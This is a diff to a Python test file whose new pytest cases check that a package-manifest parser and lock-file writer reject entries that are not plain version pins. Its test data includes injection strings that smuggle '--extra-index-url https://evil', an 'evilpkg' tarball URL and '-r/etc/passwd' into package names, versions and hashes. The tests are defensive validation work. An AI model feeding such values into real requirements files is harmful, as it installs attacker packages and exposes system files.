@@ -17,6 +17,7 @@ from shared.manifest.compare import diff
 from shared.manifest.document import GuestFacts, environment
 from shared.manifest.rebuild import (
     RebuildRequest,
+    UnsafeLockEntry,
     locked_requirements,
     pinned_blobs,
     request_from_manifest,
@@ -105,6 +106,56 @@ def test_guest_facts_are_bounded() -> None:
     ):
         with pytest.raises(BadGuestReport):
             parse_guest_json(GuestFacts, json.dumps(bad), "facts")
+
+
+INJECTED_VERSION = "1.26.4\n--extra-index-url https://evil\nevilpkg @ https://evil/e.tar.gz"
+
+
+@pytest.mark.parametrize(
+    "package",
+    [
+        {"name": "numpy", "version": INJECTED_VERSION},
+        {"name": "numpy", "version": "1.26.4 --index-url=https://evil"},
+        {"name": "numpy", "version": "latest"},
+        {"name": "numpy\n--extra-index-url https://evil", "version": "1.26.4"},
+        {"name": "-r/etc/passwd", "version": "1"},
+        {"name": "numpy", "version": "1.26.4", "hashes": ["sha256:" + "a" * 64 + " --x"]},
+        {"name": "numpy", "version": "1.26.4", "hashes": ["md5:" + "a" * 32]},
+    ],
+)
+def test_guest_facts_with_a_package_that_is_not_a_plain_pin_are_refused(
+    package: dict[str, object],
+) -> None:
+    with pytest.raises(BadGuestReport, match=r"packages\.0\.(name|version|hashes)"):
+        parse_guest_json(GuestFacts, json.dumps({"packages": [package]}), "facts")
+
+
+def test_real_package_names_versions_and_hashes_are_accepted() -> None:
+    packages = [
+        {"name": "zope.interface", "version": "6.4.post2"},
+        {"name": "typing_extensions", "version": "4.12.2"},
+        {"name": "torch", "version": "2.3.1+cpu", "hashes": ["sha256:" + "0" * 64]},
+        {"name": "A", "version": "1!2.0rc1.dev3"},
+    ]
+    facts = parse_guest_json(GuestFacts, json.dumps({"packages": packages}), "facts")
+    assert [p.version for p in facts.packages] == [
+        "6.4.post2",
+        "4.12.2",
+        "2.3.1+cpu",
+        "1!2.0rc1.dev3",
+    ]
+
+
+def test_the_lock_refuses_a_package_that_is_not_a_plain_pin() -> None:
+    """A manifest stored before the guest's report was checked still writes no extra lines."""
+    manifest = manifest_of("b-one", BLOB)
+    manifest["python_packages"][0]["version"] = INJECTED_VERSION
+    with pytest.raises(UnsafeLockEntry, match=r"python_packages\[0\]\.version"):
+        locked_requirements(manifest)
+    manifest = manifest_of("b-one", BLOB)
+    manifest["python_packages"][1]["hashes"] = ["sha256:x\n--extra-index-url https://evil"]
+    with pytest.raises(UnsafeLockEntry, match="hashes"):
+        locked_requirements(manifest)
 
 
 def test_the_guest_script_reads_uv_hash_lines() -> None:
